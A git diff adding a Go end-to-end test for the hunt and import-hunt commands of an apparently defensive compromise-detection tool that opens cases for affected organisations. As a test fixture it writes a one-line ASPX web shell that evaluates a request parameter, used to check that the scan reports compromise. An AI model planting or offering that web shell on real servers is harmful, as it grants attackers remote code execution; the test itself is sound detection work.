@@ -1,11 +1,15 @@
 package app
 
 import (
+	"context"
 	"encoding/json"
+	"net/netip"
 	"os"
 	"path/filepath"
 	"strings"
 	"testing"
+
+	"github.com/exsweep/exsweep/internal/store"
 )
 
 // writeTree lays out a tiny triage copy (KAPE style, C/…).
@@ -80,6 +84,55 @@ func TestHuntCommand(t *testing.T) {
 		{"hunt", "--root", clean, "--since", "yesterday"}, {"hunt", "--root", clean, "--yes"}} {
 		if _, errOut, code := run(t, "", args...); code != ExitUsage {
 			t.Errorf("%v: exit %d, want 2 (%s)", args, code, errOut)
+		}
+	}
+}
+
+// TestImportHunt: hunt → import-hunt end to end. A compromised report opens a
+// compromised case for the endpoint's owner and is kept for the endpoint; a
+// clean report is kept too and opens nothing; a file that is not a hunt
+// report is refused.
+func TestImportHunt(t *testing.T) {
+	dir := t.TempDir()
+	db := filepath.Join(dir, "x.db")
+	cons := filepath.Join(dir, "c.yaml")
+	os.WriteFile(cons, []byte("organisations:\n  - name: Delta\n    to: [cert@delta.example]\n    cidrs: [192.0.2.0/24]\n"), 0o644)
+	compromised := writeTree(t, map[string]string{
+		"C/inetpub/wwwroot/aspnet_client/system_web/Ab3dE7gH.aspx": `<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>`,
+	})
+	report := filepath.Join(dir, "hunt.json")
+	if _, errOut, code := run(t, "", "hunt", "--root", compromised, "--format", "json", "-o", report); code != ExitFindings {
+		t.Fatalf("hunt: exit %d %s", code, errOut)
+	}
+	out, errOut, code := run(t, "", "cases", "import-hunt", report, "--endpoint", "192.0.2.7:443", "--db", db, "--constituency", cons)
+	if code != ExitOK || !strings.Contains(out, "created true") || !strings.Contains(out, "stored as hunt report 1") {
+		t.Fatalf("import-hunt: exit %d\n%s\n%s", code, out, errOut)
+	}
+	clean := writeTree(t, map[string]string{"C/inetpub/logs/LogFiles/W3SVC1/u_ex210102.log": iisHeader +
+		"2021-01-02 10:00:00 10.0.0.5 GET /owa/auth/logon.aspx - 443 - 198.51.100.1 Mozilla/5.0 - 200 0 0 10\r\n"})
+	cleanReport := filepath.Join(dir, "clean.json")
+	run(t, "", "hunt", "--root", clean, "--format", "json", "-o", cleanReport)
+	out, _, code = run(t, "", "cases", "import-hunt", cleanReport, "--endpoint", "192.0.2.8:443", "--db", db)
+	if code != ExitOK || !strings.Contains(out, "verdict clean: no compromised case opened") {
+		t.Errorf("clean import: exit %d\n%s", code, out)
+	}
+	if _, _, code := run(t, "", "cases", "import-hunt", cons, "--endpoint", "192.0.2.8:443", "--db", db); code != ExitUsage {
+		t.Errorf("import of a non-report: exit %d; want 2", code)
+	}
+
+	st, err := store.Open(context.Background(), db)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer st.Close()
+	cs, _ := st.ListCases(context.Background(), store.CaseFilter{})
+	if len(cs) != 1 || cs[0].OrgKey != "delta" || cs[0].Problem != store.ProblemCompromised || cs[0].Endpoint.String() != "192.0.2.7:443" {
+		t.Errorf("cases = %+v; want one compromised case of delta", cs)
+	}
+	for ep, verdict := range map[string]string{"192.0.2.7:443": "compromised", "192.0.2.8:443": "clean"} {
+		reps, err := st.HuntReports(context.Background(), netip.MustParseAddrPort(ep), 0)
+		if err != nil || len(reps) != 1 || reps[0].Verdict != verdict || reps[0].Source == "" {
+			t.Errorf("hunt reports of %s = %+v, %v; want one %s", ep, reps, err, verdict)
 		}
 	}
 }
